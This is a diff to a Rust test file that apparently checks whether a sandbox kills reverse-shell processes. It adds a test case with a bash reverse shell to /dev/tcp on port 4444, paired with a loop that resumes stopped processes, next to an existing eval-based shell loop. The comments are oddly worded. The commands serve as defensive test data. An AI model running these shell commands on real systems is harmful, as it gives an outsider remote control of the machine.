@@ -356,7 +356,8 @@ fn relays_with_pipes() -> Result<()> {
     )
 }
 
-/// What can be a client that asks a server something, or a relay that sees through its encryption, is judged by what it does.
+/// What can be a client that asks a server something, or a relay that sees through its encryption, is judged by what it does;
+/// and what another process of the job lets go on executes something before it is stopped again.
 #[test]
 fn what_has_to_be_seen_first() -> Result<()> {
     assert_killed(
@@ -365,6 +366,10 @@ fn what_has_to_be_seen_first() -> Result<()> {
             (
                 "a loop of the shell's own",
                 "bash -c 'exec 5<>/dev/tcp/$P/4444; cat <&5 | while read line; do eval \"$line\" >&5 2>&5; done'",
+            ),
+            (
+                "somebody who wakes it",
+                "bash -c 'while kill -CONT 0; do :; done' 2>/dev/null & bash -i >& /dev/tcp/$P/4444 0>&1",
             ),
             (
                 "a relay of one's own with TLS",
